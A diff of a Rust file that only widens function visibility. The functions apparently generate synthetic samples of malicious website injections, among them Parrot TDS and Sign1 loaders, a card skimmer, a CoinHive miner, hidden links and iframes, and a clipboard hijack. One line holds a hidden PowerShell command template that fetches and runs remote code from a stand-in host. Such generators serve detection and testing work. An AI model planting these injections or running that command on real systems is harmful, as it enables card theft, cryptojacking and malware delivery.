@@ -3,7 +3,7 @@
 use super::seed::Seed;
 
 /// Parrot TDS in the clear: a client of its own, a mark that it was here, a look at where the visitor came from.
-pub(super) fn parrot(seed: &mut Seed) -> String {
+pub(crate) fn parrot(seed: &mut Seed) -> String {
     let mark = seed.letters("dejnswx", 4);
     let address = seed.address();
     let (client, token) = (seed.name(), seed.name());
@@ -17,7 +17,7 @@ pub(super) fn parrot(seed: &mut Seed) -> String {
 }
 
 /// Sign1: an address that changes with the time, only for who comes from a search engine.
-pub(super) fn timed(seed: &mut Seed) -> String {
+pub(crate) fn timed(seed: &mut Seed) -> String {
     let key = 1 + seed.below(60) as u8;
     let host = format!("https://{}.bad.example/", seed.letters("abcdefghijklmnop", 6));
     let coded: Vec<String> = host.bytes().map(|byte| (byte ^ key).to_string()).collect();
@@ -32,7 +32,7 @@ pub(super) fn timed(seed: &mut Seed) -> String {
 }
 
 /// A script that waits for a movement and then loads another.
-pub(super) fn movement(seed: &mut Seed) -> String {
+pub(crate) fn movement(seed: &mut Seed) -> String {
     let address = seed.address();
     let code = seed.end(&address);
     let event = seed.pick(&["mousemove", "scroll", "touchstart", "keydown"]);
@@ -43,7 +43,7 @@ pub(super) fn movement(seed: &mut Seed) -> String {
 }
 
 /// A look at the visitor, then a script or another page.
-pub(super) fn gate(seed: &mut Seed) -> String {
+pub(crate) fn gate(seed: &mut Seed) -> String {
     let address = seed.address();
     let look = seed.pick(&[
         "/Windows/.test(navigator.userAgent)",
@@ -61,7 +61,7 @@ pub(super) fn gate(seed: &mut Seed) -> String {
 }
 
 /// A skimmer: what is typed goes elsewhere.
-pub(super) fn skimmer(seed: &mut Seed) -> String {
+pub(crate) fn skimmer(seed: &mut Seed) -> String {
     let address = seed.address();
     let (send, data) = (seed.name(), seed.name());
     let field = seed.pick(&["cc_number", "card_number", "cvv", "payment[cc_cid]"]);
@@ -80,7 +80,7 @@ pub(super) fn skimmer(seed: &mut Seed) -> String {
 }
 
 /// A miner.
-pub(super) fn miner(seed: &mut Seed) -> String {
+pub(crate) fn miner(seed: &mut Seed) -> String {
     let key = seed.letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 32);
     let (miner, throttle) = (seed.name(), seed.below(9));
     let kind = seed.pick(&["CoinHive.Anonymous", "CoinHive.User", "CoinImp.Anonymous", "Client.Anonymous"]);
@@ -88,7 +88,7 @@ pub(super) fn miner(seed: &mut Seed) -> String {
 }
 
 /// What lies on the clipboard is to be run.
-pub(super) fn clipboard(seed: &mut Seed) -> String {
+pub(crate) fn clipboard(seed: &mut Seed) -> String {
     let address = seed.address();
     let command = match seed.below(3) {
         0 => format!("powershell -w hidden -c iex(irm {address})"),
@@ -109,7 +109,7 @@ pub(super) fn clipboard(seed: &mut Seed) -> String {
 }
 
 /// The next stage stands on a block chain.
-pub(super) fn chain(seed: &mut Seed) -> String {
+pub(crate) fn chain(seed: &mut Seed) -> String {
     let contract = seed.letters("0123456789abcdef", 40);
     let (asked, code) = (seed.name(), seed.name());
     let run = seed.pick(&["eval", "new Function", "window['eval']"]);
@@ -123,7 +123,7 @@ pub(super) fn chain(seed: &mut Seed) -> String {
 }
 
 /// A style that hides links, written by digits (`dnnViewState`).
-pub(super) fn hidden_links(seed: &mut Seed) -> String {
+pub(crate) fn hidden_links(seed: &mut Seed) -> String {
     let (class, function) = (seed.letters("abcdefghijklmnopqrstuvwxyz", 6), seed.name());
     let (more, text) =
         (seed.below(30), format!("<style>.{class}{{position:absolute;top:-9999px;left:-9999px}}</style>"));
@@ -138,7 +138,7 @@ pub(super) fn hidden_links(seed: &mut Seed) -> String {
 }
 
 /// Markup between a pair of comments.
-pub(super) fn sentinels(seed: &mut Seed) -> String {
+pub(crate) fn sentinels(seed: &mut Seed) -> String {
     let mark = seed.letters("0123456789abcdef", 6);
     let address = seed.address();
     let frame = format!("<iframe src=\"{address}\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>");
@@ -150,7 +150,7 @@ pub(super) fn sentinels(seed: &mut Seed) -> String {
 }
 
 /// A page that only leads elsewhere.
-pub(super) fn redirect(seed: &mut Seed) -> String {
+pub(crate) fn redirect(seed: &mut Seed) -> String {
     let address = seed.address();
     let way = match seed.below(4) {
         0 => format!("window.location.href=\"{address}\";"),
